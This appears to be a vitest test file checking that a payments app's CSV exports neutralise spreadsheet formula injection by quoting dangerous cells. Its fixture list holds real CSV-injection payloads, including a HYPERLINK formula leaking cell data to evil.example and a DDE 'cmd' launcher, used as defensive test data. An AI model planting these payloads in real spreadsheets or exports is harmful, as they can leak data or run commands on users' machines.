// CSV injection (issue 18, part 3): a cell a spreadsheet would run as a formula is written as
// text with a leading single quote, in every export type; numbers, negative ones too, stay numbers.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import type { Database } from "@/lib/db/client";
import { EXPORT_TYPES, type ExportType } from "@/lib/schemas/export";
import type { Scope } from "@/lib/server/scope";
import { createCheckoutSession } from "@/lib/server/services/checkout/create-checkout-session";
import { payCheckoutSession } from "@/lib/server/services/checkout/pay-checkout-session";
import { createCoupon } from "@/lib/server/services/coupons/create-coupon";
import { createCustomer } from "@/lib/server/services/customers/create-customer";
import { columnsFor } from "@/lib/server/services/exports/export-columns";
import { createExport } from "@/lib/server/services/exports/create-export";
import { createPrice } from "@/lib/server/services/prices/create-price";
import { createProduct } from "@/lib/server/services/products/create-product";
import { createPromoCode } from "@/lib/server/services/promo-codes/create-promo-code";
import { newMerchantScope, openTestDatabase } from "../helpers/test-db";
import { parseCsv, runToEnd, storedFile } from "./helpers";

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@1234", "-2+3", "\t=1+1", "\r=1+1"];

let database: Database;
let scope: Scope;

beforeAll(async () => {
  database = await openTestDatabase();
  scope = await newMerchantScope(database);
  const customer = await createCustomer(scope, { email: "formula@example.com", first_name: FORMULAS[0], last_name: FORMULAS[1] });
  const product = await createProduct(scope, { name: FORMULAS[2], description: FORMULAS[3], hsa_fsa_eligibility: "auto_substantiation" });
  const price = await createPrice(scope, { product: product.product_id, unit_amount: 1250 });
  const coupon = await createCoupon(scope, { name: FORMULAS[1], amount_off: 100 });
  await createPromoCode(scope, { coupon_id: coupon.coupon_id, code: "SAFE10" });
  const session = await createCheckoutSession(scope, {
    line_items: [{ price: price.price_id, quantity: 1 }],
    customer: customer.customer_id,
    client_reference_id: FORMULAS[3],
    shipping_address_collection: true,
  });
  // The shopper's address from the hosted page.
  await payCheckoutSession(scope, session.checkout_session_id, {
    payment_method: "pm_card_hsa_fsa",
    shipping_details: { line1: FORMULAS[0], line2: FORMULAS[4], city: FORMULAS[2], state: null, postal_code: "-12345", country: "US" },
  });
});
afterAll(async () => {
  await database?.close();
});

async function exportCells(type: ExportType): Promise<string[]> {
  const created = await createExport(scope, { type, description: `formulas ${type}`, metadata: {}, filters: {} });
  const done = await runToEnd(scope.db, created.export_id);
  expect(done.status).toBe("completed");
  const { rows } = parseCsv(await storedFile(scope.db, created.export_id));
  return rows.flatMap((r) => Object.values(r));
}

describe("CSV formula cells", () => {
  it.each(EXPORT_TYPES)("no cell of a %s export begins with =, +, -, @, tab or CR unless it is a number", async (type) => {
    for (const cell of await exportCells(type)) {
      if (/^-\d+(\.\d+)?$/.test(cell)) continue; // a negative number is a number
      expect(cell, `${type}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("the dangerous text is kept, behind a single quote, where the merchant can read it", async () => {
    const customers = await exportCells("customer");
    expect(customers).toContain(`'${FORMULAS[0]}`);
    expect(customers).toContain(`'${FORMULAS[1]}`);
    const sessions = await exportCells("checkout_session");
    expect(sessions).toContain(`'${FORMULAS[3]}`); // client_reference_id
    expect(sessions).toContain(`'${FORMULAS[0]}`); // shipping_details.line1
    expect(sessions).toContain(`'${FORMULAS[4]}`); // shipping_details.line2 (tab)
    expect(sessions).toContain("'-12345"); // a postal code is text, even when it looks like a number
    expect(await exportCells("product")).toEqual(expect.arrayContaining([`'${FORMULAS[2]}`, `'${FORMULAS[3]}`]));
    expect(await exportCells("coupon")).toContain(`'${FORMULAS[1]}`);
  });

  it("amounts stay numbers: -500 cents is -500 and -5.00, not text", () => {
    const columns = columnsFor(z.object({ amount: z.number().int(), note: z.string() }));
    const row = { amount: -500, note: "-500" };
    expect(columns.map((c) => [c.name, c.value(row)])).toEqual([
      ["amount", "-500"],
      ["amount_dollars", "-5.00"],
      ["note", "'-500"],
    ]);
  });
});
